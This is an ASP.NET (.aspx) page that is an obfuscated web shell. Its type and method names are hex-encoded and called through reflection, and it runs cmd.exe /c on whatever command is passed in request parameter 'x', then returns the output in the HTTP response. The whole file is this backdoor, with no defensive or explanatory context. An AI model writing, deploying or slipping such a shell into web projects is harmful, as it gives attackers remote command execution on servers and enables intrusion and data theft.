<%@ Page Language="C#" %>
<%
Func<string,string> h = x => { var b = new byte[x.Length/2]; for (int i=0;i<b.Length;i++) b[i]=Convert.ToByte(x.Substring(i*2,2),16); return System.Text.Encoding.ASCII.GetString(b); };
var asm = System.Reflection.Assembly.LoadWithPartialName(h("53797374656d"));
var tp = asm.GetType(h("53797374656d2e446961676e6f73746963732e50726f63657373"));
var si = asm.GetType(h("53797374656d2e446961676e6f73746963732e50726f63657373537461727449" + "6e666f"));
object psi = Activator.CreateInstance(si, h("636d642e657865"), "/c " + Request[h("78")]);
si.GetProperty("UseShellExecute").SetValue(psi, false, null);
si.GetProperty("RedirectStandardOutput").SetValue(psi, true, null);
object proc = tp.GetMethod("Start", new Type[]{si}).Invoke(null, new object[]{psi});
Response.Write(((System.IO.StreamReader)tp.GetProperty("StandardOutput").GetValue(proc, null)).ReadToEnd());
%>
